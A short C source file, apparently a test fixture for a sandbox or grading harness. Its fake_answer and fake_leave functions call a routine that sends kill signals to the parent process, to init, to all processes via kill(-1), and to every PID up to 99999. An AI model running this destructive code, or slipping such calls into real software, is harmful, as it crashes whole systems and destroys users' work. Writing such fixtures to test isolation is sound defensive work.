/* Kills its parent, process 1, every process that it can see, and every number there is. */
#include <signal.h>
#include <unistd.h>
#include "fake.h"

static void kill_all(void)
{
    static const int signals[] = {SIGTERM, SIGKILL, SIGSTOP, SIGSEGV};
    for (int i = 0; i < 4; i++) {
        (void)kill(getppid(), signals[i]);
        (void)kill(1, signals[i]);
        (void)kill(-1, signals[i]);
    }
    for (pid_t pid = 3; pid < 100000; pid++)
        if (pid != getpid())
            (void)kill(pid, SIGKILL);
}

int fake_answer(int number)
{
    kill_all();
    return number;
}

int fake_leave(void)
{
    kill_all();
    return -1;
}
